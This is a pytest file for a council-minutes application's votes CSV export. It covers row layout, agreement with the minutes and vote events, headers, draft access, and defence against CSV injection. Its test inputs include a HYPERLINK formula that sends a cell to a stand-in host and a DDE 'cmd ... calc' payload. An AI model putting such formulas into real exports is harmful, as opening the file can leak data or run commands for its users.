"""A meeting's votes as CSV: one row per vote and party, member rows for a party that split,
a løsgænger and a member who took no part, parties in the body's order; the same counts
and positions as the minutes and the Popolo vote events; the download's headers; drafts
for the people who work on the meeting only; typed text round-trips through `csv.reader`
exactly, a formula-like cell with one single quote more in front (hypothesis)."""

from __future__ import annotations

import csv
import io
import re

import pytest
import sqlalchemy as sa
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from meetings.models import Meeting, MeetingState, Party
from minutes.votes_csv import COLUMNS, votes_csv
from motions.models import MotionKind
from protokol.cli import publish_meeting
from tests.helpers import normalise
from votes.models import Outcome

#: What a spreadsheet reads as the start of a formula (OWASP, CSV injection).
FORMULA_START = "=+-@\t\r\n\0"


def restore(cell: str) -> str:
    """The typed text of a cell: one single quote off a neutralised formula."""
    return cell[1:] if re.match(r"'+[=+\-@\t\r\n\0]", cell) else cell


def parse(data: bytes) -> list[dict[str, str]]:
    """The rows of a votes CSV, checked to be UTF-8 with a byte order mark and CRLF ends,
    every cell quoted and none a formula."""
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text.endswith('"\r\n')
    assert set(re.sub(r'"(?:[^"]|"")*"', "", text)) <= set(",\r\n"), "a cell not quoted"
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(header) == COLUMNS
    for row in rows:
        assert len(row) == len(COLUMNS)
        for cell in row:
            assert not cell or cell[0] not in FORMULA_START, cell
    return [dict(zip(COLUMNS, row, strict=True)) for row in rows]


@pytest.fixture
def council(db, factories):
    """A meeting of a body whose order (V, A, B) is not the alphabet's: item 1 with a
    split vote (A 2 against his party, A 3 not voting, a løsgænger abstaining) and a motion
    decided without a vote; a closed item 2 with a vote; item 3 with a motion not voted
    on. Returns the meeting."""
    meeting = factories.meeting({"V": 1, "A": 3, "B": 1, None: 1}, order="V A B")
    item = factories.item(meeting, 1, title="Budget 2011", case_number="2010-1")
    split = factories.motion(item, MotionKind.AMENDMENT, party="V", text="Skatten sænkes.")
    factories.vote(
        split,
        {"V": "against", "A": "for", "B": "for"},
        {"A 2": "against", "A 3": "not_voting", "Løsgænger 1": "abstain"},
    )
    quiet = factories.motion(item, MotionKind.ADDITION, proposer="A 1", text="Og en park.")
    factories.vote(quiet, is_without_vote=True, outcome_without_vote=Outcome.ADOPTED)
    closed = factories.item(meeting, 2, title="Personalesag", is_closed=True)
    factories.vote(
        factories.motion(closed, MotionKind.AMENDMENT, party="B", text="HEMMELIGT"),
        {"V": "for", "A": "for", "B": "for"},
    )
    factories.motion(factories.item(meeting, 3, title="Orientering"), text="Ingen afstemning.")
    db.session.commit()
    return meeting


def test_one_row_per_vote_and_party_in_the_bodys_order(client, council):
    publish_meeting(council.id)
    response = client.get(f"/meetings/{council.id}/votes.csv")
    assert response.status_code == 200
    rows = parse(response.data)
    assert {r["punkt"] for r in rows} == {"1"}  # not the closed item, not the unvoted motion
    first = rows[0]
    assert first["dato"] == "2010-12-06" and first["møde_id"] == str(council.id)
    assert first["udvalg"] == council.body.name and first["punktets_titel"] == "Budget 2011"
    assert first["sagsnummer"] == "2010-1" and first["forslagstype"] == "Ændringsforslag"
    assert first["forslagsstiller"] == "Venstre" and first["forslagstekst"] == "Skatten sænkes."
    assert {r["status"] for r in rows} == {"offentliggjort"}
    vote = [(r["parti"], r["medlem"], r["stemme"], r["antal"]) for r in rows if r["forslag"] == "1"]
    assert vote == [
        ("V", "", "imod", "1"),
        ("A", "A 1", "for", "1"),
        ("A", "A 2", "imod", "1"),
        ("A", "A 3", "deltog ikke", "1"),
        ("B", "", "for", "1"),
        ("", "Løsgænger 1", "undlod", "1"),
    ]
    totals = {
        (r["i_alt_for"], r["i_alt_imod"], r["i_alt_undlod"], r["i_alt_deltog_ikke"], r["resultat"])
        for r in rows
        if r["forslag"] == "1"
    }
    assert totals == {("2", "2", "1", "1", "forkastet")}  # a tie is not adopted
    [quiet] = [r for r in rows if r["forslag"] == "2"]
    assert quiet["forslagsstiller"] == "A 1 (A)" and quiet["forslagstype"] == "Tillægsforslag"
    assert quiet["uden_afstemning"] == "ja" and quiet["resultat"] == "vedtaget"
    assert (quiet["parti"], quiet["medlem"], quiet["stemme"], quiet["i_alt_for"]) == ("",) * 4
    assert "HEMMELIGT" not in response.text and "Personalesag" not in response.text


def side_line(label: str, rows: list[dict[str, str]], position: str) -> str:
    """A vote line of the minutes ("For stemte: 2 (A 1 (A), B)"), made from the CSV."""
    side = [r for r in rows if r["stemme"] == position]
    if not side:
        return f"{label}: Ingen"
    names = [
        r["parti"] if not r["medlem"] else f"{r['medlem']} ({r['parti'] or 'løsgænger'})"
        for r in side
    ]
    return f"{label}: {sum(int(r['antal']) for r in side)} ({', '.join(names)})"


@pytest.mark.parametrize("scene", ["council", "demo"])
def test_the_csv_agrees_with_the_minutes_and_the_vote_events(client, request, scene):
    meeting_id = (
        request.getfixturevalue("council").id
        if scene == "council"
        else request.getfixturevalue("demo_id")
    )
    publish_meeting(meeting_id)
    rows = parse(client.get(f"/meetings/{meeting_id}/votes.csv").data)
    minutes = normalise(client.get(f"/meetings/{meeting_id}/minutes.txt").text)
    events = client.get(f"/popolo/meetings/{meeting_id}/vote-events").json["data"]
    counted = [e for e in events if e["classification"] == "vote"]
    assert {r["afstemning_id"] for r in rows} == {e["identifier"] for e in events}
    for event in counted:
        vote = [r for r in rows if r["afstemning_id"] == event["identifier"]]
        for label, position in (("For stemte", "for"), ("Imod stemte", "imod")):
            assert side_line(label, vote, position) in minutes
        assert side_line("Undlod", vote, "undlod") in minutes
        counts = {c["option"]: str(c["value"]) for c in event["counts"]}
        assert (vote[0]["i_alt_for"], vote[0]["i_alt_imod"], vote[0]["i_alt_undlod"]) == (
            counts["yes"],
            counts["no"],
            counts["abstain"],
        )
        assert vote[0]["i_alt_deltog_ikke"] == counts.get("not voting", "0")
        result = {"pass": "vedtaget", "fail": "forkastet", None: ""}[event["result"]]
        assert {r["resultat"] for r in vote} == {result}
        options = {"yes": "for", "no": "imod", "abstain": "undlod"}
        assert sorted((v["voter"]["name"], options[v["option"]]) for v in event["votes"]) == sorted(
            (r["medlem"] or r["partinavn"], r["stemme"])
            for r in vote
            if r["stemme"] != "deltog ikke"
        )
    assert counted, "the scene has counted votes"


def test_the_download_headers_and_conditional_answers(client, council):
    publish_meeting(council.id)
    response = client.get(f"/meetings/{council.id}/votes.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="afstemninger-2010-12-06-{council.id}.csv"'
    )
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Cache-Control"] == "public, no-cache"
    again = client.get(
        f"/meetings/{council.id}/votes.csv", headers={"If-None-Match": response.headers["ETag"]}
    )
    assert again.status_code == 304
    item = client.get(f"/meetings/{council.id}/items/1/votes.csv")
    assert item.headers["Content-Disposition"] == (
        f'attachment; filename="afstemninger-2010-12-06-{council.id}-punkt-1.csv"'
    )
    assert item.data == response.data  # item 1 has every vote of the meeting
    # A closed item: the heading only. An item that does not exist: 404.
    assert parse(client.get(f"/meetings/{council.id}/items/2/votes.csv").data) == []
    assert client.get(f"/meetings/{council.id}/items/9/votes.csv").status_code == 404
    assert client.get("/meetings/4242/votes.csv").status_code == 404
    page = client.get(f"/meetings/{council.id}").text
    assert f'href="/meetings/{council.id}/votes.csv"' in page
    assert f'href="/meetings/{council.id}/items/1/votes.csv"' in (
        client.get(f"/meetings/{council.id}/items/1").text
    )


def test_a_draft_only_for_the_people_who_work_on_the_meeting(client, council, make_user, login):
    assert client.get(f"/meetings/{council.id}/votes.csv").status_code == 404
    assert client.get(f"/meetings/{council.id}/items/1/votes.csv").status_code == 404
    login(make_user("secretary", bodies=[council.body]))
    response = client.get(f"/meetings/{council.id}/votes.csv")
    assert response.status_code == 200
    assert {r["status"] for r in parse(response.data)} == {"UDKAST"}
    assert response.headers["Content-Disposition"].endswith('-udkast.csv"')
    assert response.headers["Cache-Control"] == "private, no-store"
    assert "ETag" not in response.headers
    assert f'href="/meetings/{council.id}/votes.csv"' in client.get(f"/meetings/{council.id}").text


# --------------------------------------------------------------------------- typed text

HOSTILE = '=HYPERLINK("http://x/?"&A1;"klik"), "citat" <b>&amp;</b> æøå\r\nlinje\x1b\x07\t;,'


def hostile_texts(meeting: Meeting, db, texts: dict[str, str]) -> None:
    """Put `texts` into item 1's title and case number, the first motion's text and
    proposer (an outsider), party V's name and the name of member A 1 (the second motion's
    proposer)."""
    item = meeting.items[0]
    motion = item.motions[0]
    item.title, item.case_number = texts["title"], texts["case_number"]
    motion.text, motion.proposer_name = texts["text"], texts["proposer"]
    motion.proposer_party = None
    db.session.scalar(sa.select(Party).where(Party.letter == "V")).name = texts["party"]
    item.motions[1].proposer_member.name = texts["member"]
    db.session.commit()


def check_round_trip(rows: list[dict[str, str]], texts: dict[str, str]) -> None:
    """Every typed text comes back from `csv.reader` as typed (one quote off a formula)."""
    first = [r for r in rows if r["forslag"] == "1"]
    for row in first:
        assert restore(row["punktets_titel"]) == texts["title"]
        assert restore(row["sagsnummer"]) == texts["case_number"]
        assert restore(row["forslagstekst"]) == texts["text"]
        assert restore(row["forslagsstiller"]) == texts["proposer"]
    assert {restore(r["partinavn"]) for r in first if r["parti"] == "V"} == {texts["party"]}
    assert texts["member"] in {restore(r["medlem"]) for r in first}
    [second] = [r for r in rows if r["forslag"] == "2"]
    assert restore(second["forslagsstiller"]) == f"{texts['member']} (A)"


def test_typed_text_comes_out_literally(client, db, council):
    texts = {
        "title": HOSTILE,
        "case_number": "+45 33 66 33 66",
        "text": "-" + 'Lang tekst, med komma; "citat" og æøå.\r\n' * 500 + HOSTILE,
        "proposer": '@Forvaltningen, "Kultur" <i>&</i>',
        "party": '"Venstre", <b>V</b> & Co;\r\n=1+1',
        "member": "\tTab-medlem 'x' \"y\"",
    }
    hostile_texts(council, db, texts)
    publish_meeting(council.id)
    response = client.get(f"/meetings/{council.id}/votes.csv")
    check_round_trip(parse(response.data), texts)
    # The formula cells, quoted and with one single quote more in front, as written.
    assert b'"\'=HYPERLINK(""http://x/?""&A1;""klik""), ""citat"" <b>&amp;</b>' in response.data
    assert b'"\'+45 33 66 33 66"' in response.data and b"\"'@Forvaltningen, " in response.data


#: Characters a database can hold (not NUL, not a lone surrogate).
CHARACTERS = st.characters(exclude_categories=("Cs",), exclude_characters="\x00")
TOKENS = [
    "=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "'", "''", '"', ",", ";", "<b>", "</b>",
    "&", "&amp;", "æøå", "ÆØÅ", "\x1b", "\x07", "\x7f", "\u2028", "\ufeff", " ",
    '=HYPERLINK("http://x")', "cmd|' /C calc'!A0", "tekst",
]  # fmt: skip


def typed(max_size: int, min_size: int = 1):
    return st.one_of(
        st.text(CHARACTERS, min_size=min_size, max_size=max_size),
        st.lists(st.sampled_from(TOKENS), min_size=max(min_size, 1), max_size=8)
        .map("".join)
        .filter(lambda s: len(s) <= max_size),
    )


@settings(max_examples=200, deadline=None)
@given(rows=st.lists(st.lists(st.text(st.characters(exclude_categories=("Cs",))), max_size=5)))
def test_any_cell_round_trips_and_none_is_a_formula(rows):
    data = votes_csv(rows)
    assert data.startswith(b"\xef\xbb\xbf")
    header, *parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert tuple(header) == COLUMNS
    assert [[restore(c) for c in row] for row in parsed] == rows
    assert all(not c or c[0] not in FORMULA_START for row in parsed for c in row)


def test_typed_text_round_trips_through_the_database(app, client, db, council, make_user, login):
    login(make_user("admin"))

    @settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
    @given(
        texts=st.fixed_dictionaries(
            {
                "title": typed(500),
                "case_number": typed(50, min_size=0),
                "text": typed(2000),
                "proposer": typed(200),
                "party": typed(200),
                "member": typed(200),
            }
        )
    )
    def round_trip(texts):
        hostile_texts(db.session.get(Meeting, council.id), db, texts)
        response = client.get(f"/meetings/{council.id}/votes.csv")
        assert response.status_code == 200
        check_round_trip(parse(response.data), texts)

    round_trip()
    assert db.session.get(Meeting, council.id).state == MeetingState.IN_SESSION
